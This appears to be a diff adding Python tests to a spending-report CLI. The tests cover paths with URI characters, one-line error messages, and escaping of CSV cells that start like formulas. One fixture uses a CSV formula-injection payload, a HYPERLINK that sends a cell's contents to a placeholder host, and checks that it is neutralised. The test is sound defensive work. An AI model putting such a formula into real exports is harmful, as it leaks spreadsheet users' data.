@@ -77,3 +77,52 @@ def test_spend_csv(tmp_path: Path) -> None:
     ]
     # A spreadsheet's column sum is the exact total.
     assert sum(Decimal(r["cost_usd"]) for r in rows) == Decimal("1.730000000003")
+
+
+def _spend(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("OFFLOAD_")} | {"OFFLOAD_DB": str(db)}
+    return subprocess.run(
+        [sys.executable, "-m", "offload.cli.main", "spend", *args], env=env, capture_output=True, text=True, timeout=60
+    )
+
+
+def test_a_ledger_path_with_uri_characters_is_read_as_written(tmp_path: Path) -> None:
+    # '#', '?' and '%' mean something in the file: URI the read-only readers open; a naive
+    # f"file:{path}" read "a" (and created it, mode=ro being cut off with the fragment) and said $0.
+    folder = tmp_path / "a#b?c%41"
+    folder.mkdir()
+    asyncio.run(_fill(folder / "ledger.db"))
+    out = _spend(folder / "ledger.db", "--by", "model", "--json")
+    assert out.returncode == 0, out.stderr
+    assert '"cost_usd": "1.730000000003"' in out.stdout  # 150 + 23 cents + 3 pusd
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a#b?c%41"]  # no stray file beside it
+
+
+def test_unopenable_ledger_and_overflowing_since_are_one_line(tmp_path: Path) -> None:
+    (tmp_path / "dir.db").mkdir()
+    out = _spend(tmp_path / "dir.db")
+    assert out.returncode == 1 and len(out.stderr.splitlines()) == 1, out.stderr
+    assert out.stderr.startswith(f"offload spend: {tmp_path / 'dir.db'}: cannot read the ledger")
+    asyncio.run(_fill(tmp_path / "ledger.db"))
+    far = _spend(tmp_path / "ledger.db", "--since", "99999999d")
+    assert far.returncode == 1 and len(far.stderr.splitlines()) == 1, far.stderr
+    assert "--since '99999999d'" in far.stderr
+
+
+async def _fill_users(path: Path) -> None:
+    led = await Ledger.open(path, user='=HYPERLINK("http://x.invalid/?"&A1,"ok")')
+    try:
+        await record(led, Attempt("u1", "s1", "routed_complete", "claude-haiku-5-5", Usage(1, 1), 5, 3))
+    finally:
+        await led.close()
+
+
+def test_csv_keys_never_start_a_formula(tmp_path: Path) -> None:
+    # OFFLOAD_USER / project names come from whoever shares the ledger; a spreadsheet runs a
+    # cell starting with = + - @ as a formula. Money stays a plain (here negative) number.
+    asyncio.run(_fill_users(tmp_path / "ledger.db"))
+    out = _spend(tmp_path / "ledger.db", "--by", "user", "--csv")
+    assert out.returncode == 0, out.stderr
+    row = next(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["user"] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")'
+    assert row["saved_usd"] == "-0.000000000002"
